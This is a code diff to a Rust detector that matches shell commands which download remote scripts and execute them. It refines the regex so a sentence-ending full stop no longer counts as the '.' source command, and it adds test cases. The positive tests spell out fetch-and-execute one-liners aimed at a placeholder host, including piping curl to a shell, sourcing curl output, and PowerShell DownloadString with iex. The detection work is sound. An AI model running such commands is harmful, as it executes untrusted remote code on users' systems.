@@ -47,7 +47,9 @@ static FETCH_EXEC: LazyLock<Vec<Regex>> = LazyLock::new(|| {
         // curl/wget ... | [sudo] sh|bash|zsh|python|node|perl|ruby|pwsh
         r"(?i)\b(curl|wget|fetch)\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(env\s+\S+=\S+\s+)*(ba|z|k|da|fi)?sh\b|\b(curl|wget)\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(python[0-9.]*|node|perl|ruby|pwsh|powershell)(\s+-)?(\s|$)",
         // sh -c "$(curl ...)", bash <(curl ...), source <(curl ...), python -c "$(curl ...)"
-        r#"(?i)\b((ba|z|k|da)?sh|python[0-9.]*|node|perl|source|\.)\s+(-c\s+)?["']?(\$\(|<\(|`)\s*(curl|wget)\b[^\n]*"#,
+        // (`.` only as a command: at the start or after a separator, then a space on the same
+        // line; the full stop of a sentence before an inline `curl …` span is not one.)
+        r#"(?i)(\b((ba|z|k|da)?sh|python[0-9.]*|node|perl|source)|(^|[\s;&|(])\.)[ \t]+(-c\s+)?["']?(\$\(|<\(|`)\s*(curl|wget)\b[^\n]*"#,
         // eval "$(curl ...)"
         r#"(?i)\beval\s+["']?(\$\(|`)\s*(curl|wget)\b[^\n]*"#,
         // PowerShell: iwr/irm/DownloadString ... | iex, or iex (… DownloadString(...))
@@ -416,6 +418,8 @@ mod tests {
             "iwr https://x.example/a.ps1 | iex",
             "iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
             "bash <(curl -s https://x.example/i.sh)",
+            ". <(curl -s https://x.example/i.sh)",
+            "cd /tmp && . <(curl -s https://x.example/i.sh)",
             "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x",
         ];
         for y in yes {
@@ -425,6 +429,8 @@ mod tests {
             "curl -fsSL https://x.example/data.json -o data.json",
             "curl https://pypi.org/simple/requests/ | grep href",
             "wget https://x.example/file.tar.gz && tar xf file.tar.gz",
+            "Use the helper.\n`curl -s https://x.example/r | grep ok` checks it.",
+            "Use the helper. `curl -s https://x.example/r | grep ok` checks it.",
         ];
         for n in no {
             assert!(!FETCH_EXEC.iter().any(|r| r.is_match(n)), "{n}");
